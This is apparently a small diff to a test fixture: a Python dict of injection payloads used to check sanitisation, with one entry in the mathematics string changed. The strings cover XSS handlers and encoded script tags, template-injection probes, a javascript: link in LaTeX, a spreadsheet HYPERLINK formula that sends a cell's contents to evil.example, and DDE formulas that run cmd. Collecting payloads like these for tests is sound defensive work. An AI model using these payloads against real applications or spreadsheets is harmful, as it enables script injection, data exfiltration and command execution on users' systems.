@@ -29,7 +29,7 @@ TEXTS: dict[str, str] = {
     "attribute's end": f'"\' onmouseover={_SHOT} x="',
     "entities": f"&lt;script&gt;{_SHOT}&lt;/script&gt; &#60;img src=x onerror={_SHOT}&#62;",
     "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
-    "mathematics": r"$\href{javascript:window.hostile=1}{x}$ \(\unicode{x1F600}\) $$\require{html}$$",
+    "mathematics": r"$\href{javascript:window.hostile=1}{x}$ \(\unicode{x1F600}\) $$\require{a}$$",
     "formula": '=HYPERLINK("https://evil.example/?"&A1,"Read")',
     "formula with a plus": "+cmd|' /C calc'!A0",
     "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
